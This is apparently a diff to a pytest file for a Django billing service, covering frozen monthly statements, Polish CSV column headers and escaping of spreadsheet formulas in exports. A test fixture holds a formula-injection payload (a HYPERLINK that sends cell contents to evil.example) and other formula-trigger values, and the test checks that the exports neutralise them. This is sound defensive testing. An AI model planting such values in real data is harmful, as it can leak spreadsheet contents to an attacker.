@@ -6,6 +6,7 @@ from decimal import Decimal
 
 import pypdfium2
 import pytest
+from django.core.exceptions import ValidationError
 
 from billing.models import Statement
 from billing.services import package_purchase, time_entry_log
@@ -77,11 +78,15 @@ def test_generate_is_idempotent_and_reproducible(demo):
     again = statement_generate(tenant=tenant, organization=org, month=date(2026, 3, 17))
     assert (again.pk, again.generated_at, again.lines) == (first.pk, first.generated_at, first.lines)
     assert Statement.objects.filter(organization=org).count() == 1
-    # when new billable work lands in the month, generating again refreshes the same row
-    _log(demo, "wysylki", "Meblex", "remote", at(2026, 3, 10, 9), 295)  # 300 billed: 3 h + 2 h at 165
-    refreshed = statement_generate(tenant=tenant, organization=org, month=date(2026, 3, 1))
-    assert refreshed.pk == first.pk
-    assert refreshed.net == Decimal("729.00")  # 399 + 2 h × 165
+    # an issued statement is frozen: late work of the closed month is refused, the document stays
+    with pytest.raises(ValidationError) as error:
+        _log(demo, "wysylki", "Meblex", "remote", at(2026, 3, 10, 9), 295)
+    assert "started_at" in error.value.message_dict
+    again = statement_generate(tenant=tenant, organization=org, month=date(2026, 3, 1))
+    assert (again.pk, again.generated_at, again.lines, again.net) == (first.pk, first.generated_at, first.lines,
+                                                                      first.net)
+    # while the next, open month takes work as usual
+    assert _log(demo, "wysylki", "Meblex", "remote", at(2026, 4, 10, 9), 295).overage_minutes == 120
 
 
 def test_close_month_generates_every_organization_once(demo):
@@ -97,8 +102,9 @@ def test_statement_csv_and_accounting_export(demo):
     statement = statement_generate(tenant=tenant, organization=demo.organization("wysylki", "Elektro-Mat"),
                                    month=date(2026, 5, 1))
     rows = list(csv.DictReader(io.StringIO(statement_csv(statement))))
-    assert [(r["code"], r["net"]) for r in rows] == [("subscription", "799.00"), ("time", "140.00"),
-                                                     ("net", "939.00"), ("vat", "215.97"), ("gross", "1154.97")]
+    assert [(r["Kod"], r["Wartość netto"]) for r in rows] == [
+        ("subscription", "799.00"), ("time", "140.00"), ("net", "939.00"), ("vat", "215.97"), ("gross", "1154.97")]
+    assert [r["Opis"] for r in rows[-3:]] == ["Razem netto", "VAT 23\u00a0%", "Do zapłaty brutto"]
     export = list(csv.DictReader(io.StringIO(accounting_csv(tenant=tenant, month=date(2026, 5, 1)))))
     assert len(export) == 1
     assert {k: export[0][k] for k in ("organization", "kind", "actual_minutes", "billed_minutes",
@@ -146,8 +152,8 @@ def test_exports_neutralise_spreadsheet_formulas_in_names(demo):
 
     # when they are exported, then each such cell starts with a quote and numbers stay numbers
     rows = list(csv.DictReader(io.StringIO(statement_csv(statement))))
-    assert {r["organization"] for r in rows} == {'\'=HYPERLINK("http://evil.example/?x="&A1,"Bilans")'}
-    assert {r["tax_id"] for r in rows} == {"'+48123"}
+    assert {r["Organizacja"] for r in rows} == {'\'=HYPERLINK("http://evil.example/?x="&A1,"Bilans")'}
+    assert {r["NIP"] for r in rows} == {"'+48123"}
     [export] = csv.DictReader(io.StringIO(accounting_csv(tenant=tenant, month=date(2026, 5, 1))))
     assert export["organization"].startswith("'=") and export["agent"] == "'@SUM(1+1)"
     assert export["net"] == "140.00"
